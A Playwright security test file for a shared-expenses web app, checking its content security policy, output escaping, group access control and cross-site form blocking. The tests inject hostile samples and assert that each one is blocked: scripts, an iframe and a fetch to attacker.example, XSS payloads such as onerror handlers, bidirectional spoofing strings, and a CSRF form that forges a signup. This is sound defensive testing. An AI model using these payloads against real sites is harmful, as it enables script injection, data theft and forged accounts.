/**
 * What an attacker meets in a browser: the content security policy, and the refusals of rules and API.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { groupExpensesPath, numberPath } from '@pg/contract/document-paths';
import type { Page } from '@playwright/test';
import { database } from '../support/database.ts';
import { expect, openLive, spendIn, test } from '../support/e2e/fixtures.ts';
import { click, openTab, see, seeHeading, seeNo } from '../support/e2e/ui.ts';
import { buildGroup, buildPerson } from '../support/people.ts';
import { today } from '../support/time.ts';

test('messengers get a headline and a picture for a link to the app, the same for every link', async ({ request }) => {
  const page = await (await request.get('/')).text();
  expect(page).toContain('property="og:title" content="Shared expenses, without the arguments"');
  expect(page).toMatch(/property="og:image" content="[^"]*\/icons\/preview\.png"/);
  const picture = await request.get('/icons/preview.png');
  expect(picture.headers()['content-type']).toBe('image/png');
  const bytes = await picture.body();
  // WhatsApp drops pictures over 600 KB; ours stays below half of that. A PNG has its width and height at byte 16.
  expect(bytes.length).toBeLessThan(300_000);
  expect([bytes.readUInt32BE(16), bytes.readUInt32BE(20)]).toEqual([1200, 630]);
});

declare global {
  interface Window {
    violations: string[];
    owned?: boolean;
  }
}

/** Records the policy violations of every page that is opened from now on. */
async function noteViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.violations.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
}
const violations = (page: Page): Promise<string[]> => page.evaluate(() => window.violations);

test('no screen violates the policy, and the browser blocks injected scripts, images and requests @deep', async ({
  atHome: { asha, page, api },
}) => {
  const ravi = await buildPerson('Ravi Shah');
  await api.can('setMonthlyLimit', { limit: 1000 });
  const code = await buildGroup([api, ravi]);
  await api.can('addExpense', { amount: 40, paymentDate: today().date, tags: ['chai'], groupCodes: [code] });
  await api.can('giveOrTake', { amount: 10, name: 'Meera', date: today().date, type: 'GIVE' });
  await noteViolations(page);

  for (const [address, heading] of [
    ['/', undefined],
    ['/login', 'Welcome Back'],
    ['/signup', 'Create Account'],
    ['/give-take-dashboard', 'Give and Take'],
    ['/no-such-page', undefined],
  ] as const) {
    await page.goto(address);
    await expect(page.getByRole('main')).toBeVisible();
    if (heading) await expect(page.getByRole('heading', { name: heading }).first()).toBeVisible();
    expect(await violations(page), address).toEqual([]);
  }
  await openLive(page);
  await openTab(page, 'Members');
  await openTab(page, 'Previous Months');
  await click(page, 'Add Expense');
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(await violations(page)).toEqual([]);

  asha.mayLog(/Content Security Policy/);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.owned = true';
    const image = new Image();
    image.src = 'https://attacker.example/pixel.png';
    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/own.js';
    const frame = document.createElement('iframe');
    frame.src = 'https://attacker.example/';
    const markup = document.createElement('div');
    markup.innerHTML = '<img src="/nothing.png" onerror="window.owned = true">';
    document.body.append(script, image, foreign, frame, markup);
    fetch('https://attacker.example/collect').catch(() => undefined);
  });
  await expect
    .poll(async () => new Set((await violations(page)).map((each) => each.split('/').slice(0, 3).join('/'))))
    .toEqual(
      new Set([
        'connect-src https://attacker.example',
        'frame-src https://attacker.example',
        'img-src https://attacker.example',
        'script-src-attr inline',
        'script-src-elem https://attacker.example',
        'script-src-elem inline',
      ]),
    );
  expect(await page.evaluate(() => window.owned)).toBeUndefined();
});

test('markup, bidirectional marks and zero-width characters in stored strings appear as text @deep', async ({
  member,
}) => {
  const asha = await member('<script>owned=1</script>', { at: '/' });
  const { page } = asha;
  const groupName = '<img src=x onerror=owned=1>A&amp;B';
  const tag = '<i>क्\u200dष</i>';
  await asha.api.can('setMonthlyLimit', { limit: 1000 });
  const code = await buildGroup([asha.api], groupName);
  const { id } = await spendIn(code)(asha, 40, [tag]);
  // The API now removes such characters, but older documents may contain them.
  const turned = '<b>rent</b> \u202e\u2066paid\u2069 \u200f7000\u200b';
  await database.doc(`${groupExpensesPath(code)}/${id}`).update({ tags: [tag, turned], description: turned });

  await openLive(page);
  const shown = () => page.evaluate(() => document.body.textContent);
  for (const text of [groupName, tag, turned, '<script>owned=1</script>']) await expect.poll(shown).toContain(text);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  await expect(page.locator('main img, main script, main b, main i')).toHaveCount(0);
});

test("a stranger with a group's code in local storage or in a link sees nothing of that group @deep", async ({
  member,
}) => {
  const asha = await member('Asha Rao');
  const stranger = await member('Charu Nair', { at: '/' });
  const code = await buildGroup([asha.api]);

  await stranger.page.evaluate((saved) => localStorage.setItem('currentGroupCode', saved), code);
  await stranger.page.goto('/dashboard');
  await see(stranger.page, 'No group found. Please create or join a group.');

  await buildGroup([stranger.api], 'Lake View PG');
  await stranger.page.evaluate((saved) => localStorage.setItem('currentGroupCode', saved), code);
  await stranger.page.reload();
  await seeHeading(stranger.page, 'Lake View PG');
  await stranger.page.goto(`/dashboard/#group=${code}`);
  await see(stranger.page, 'You are not a member of this group.');
  await seeHeading(stranger.page, 'Lake View PG');
  await expect(stranger.page).toHaveURL('/dashboard/');
  await seeNo(stranger.page, 'Sunrise PG');
});

test('a form on another site cannot create an account @deep', async ({ visitor, baseURL }) => {
  const charu = await visitor('Charu Nair');
  charu.mayLog(/403/);
  const { page, mobile } = charu;
  const isSignedUp = async () => (await database.doc(numberPath(mobile)).get()).exists;
  // A browser sends a plain-text form without a preflight. It writes the field as name=value, so the equals sign
  // becomes part of the password.
  const body = `{"name":"Mallory","userId":"${mobile}","password":"chai`;
  const form = `<form method="post" enctype="text/plain" action="${baseURL}/auth/register">
    <input name='${body}' value='and rent"}'><button>Win a phone</button></form>`;
  const elsewhere = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(form);
  });
  await new Promise<void>((listening) => elsewhere.listen(0, 'localhost', listening));
  try {
    await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`);
    await page.getByRole('button', { name: 'Win a phone' }).click();
    await see(page, /"error":"cross-site"/);
    expect(await isSignedUp()).toBe(false);

    // The same form works on the app's own site.
    await page.goto('/login');
    await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), form);
    await page.getByRole('button', { name: 'Win a phone' }).click();
    await expect.poll(isSignedUp).toBe(true);
  } finally {
    elsewhere.close();
  }
});
